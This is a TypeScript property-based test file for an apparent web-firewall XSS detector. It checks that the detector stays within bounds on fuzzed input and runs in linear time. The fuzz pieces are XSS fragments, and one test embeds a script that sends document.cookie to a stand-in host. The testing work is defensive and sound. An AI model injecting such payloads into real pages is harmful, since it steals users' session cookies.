import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { detectXss } from '../../src/guard/decide/waf/detect/xss/xss.ts';
import { linear } from './linear.ts';

const pieces =
  '< > </ /> <! <? <!-- --> --!> <script </script> <svg <img <a <style </style> <textarea> <iframe <math> = " \' ` / // /* */ \\ \\u0061 \\x61 ' +
  'onload= onerror= onfocus= href= src= srcdoc= style= javascript: data:text/html, java alert alert(1) eval( (1) ( ) [ ] { } {{ }} ${ ; : , . ?. => + - ! ~ ' +
  '&#97; &#x61 &colon; &lt; &amp &# & ＜ ＞ （ ¼ function return throw if( new constructor .constructor document.cookie fetch( import( x 1 1e 0x /a/ ' +
  'expression( url( @import <meta content= 0;url= \u0000 \u2028 \ufeff 山 \ud83d \udc4d';
const spaced = [' ', '\n', '\t', '', ''];
const text = fc.array(fc.tuple(fc.constantFrom(...pieces.split(' ')), fc.constantFrom(...spaced)), {
  maxLength: 60,
});

function check(value: string): void {
  const finding = detectXss(value);
  if (finding === null) return;
  assert.ok(finding.score >= 30 && finding.score <= 100, `${finding.score}`);
  assert.ok(
    finding.from >= 0 && finding.from <= finding.to && finding.to <= value.length,
    `${finding.from} to ${finding.to} of ${value.length}: ${JSON.stringify(value)}`,
  );
  assert.ok(finding.what.length > 0 && finding.context.length > 0);
}

test('whatever it is given, the detector answers with a finding in its bounds or with null', () => {
  fc.assert(
    fc.property(text, (parts) => check(parts.flat().join(''))),
    { numRuns: 20_000 },
  );
  fc.assert(fc.property(fc.string({ unit: 'binary', maxLength: 200 }), check), { numRuns: 5_000 });
});

test('whatever stands before or behind a script that sends cookies away, it is found', () => {
  const script = "<script>fetch('//a.test/'+document.cookie)</script>";
  const words = fc.array(
    fc.constantFrom('a', 'the', 'it’s', '5 < 6', 'x = y', '(so)', '"b"', '\n', '&amp;', '<b>c</b>', '{d}'),
    {
      maxLength: 40,
    },
  );
  fc.assert(
    fc.property(words, words, (before, behind) => {
      const finding = detectXss(`${before.join(' ')} ${script} ${behind.join(' ')}`);
      assert.ok(finding !== null && finding.score >= 50);
    }),
    { numRuns: 2_000 },
  );
});

test('time grows as the length does, up to 64 KB', () => {
  const odd = [
    '<script>',
    '<a b="',
    '<!--',
    '<!---->',
    '{{',
    '{{a(',
    '${',
    '`${',
    '(',
    '[',
    '{',
    '/*',
    '"',
    '<svg onfocus=x()',
    '<p onclick=y() ',
    '&#x6a',
    '<iframe srcdoc="',
    '<style>',
    '</',
    '< script',
    'a+',
    'eval("',
    '＜',
    'data:text/html,',
    'x/onx=',
    'javascript:a(',
    '](javascript:a(',
    '<textarea>',
    '\\u0061',
  ];
  for (const piece of odd) {
    const long = piece.repeat(Math.ceil(65_536 / piece.length)).slice(0, 65_536);
    linear(JSON.stringify(piece), detectXss, Buffer.from(long).toString());
  }
});
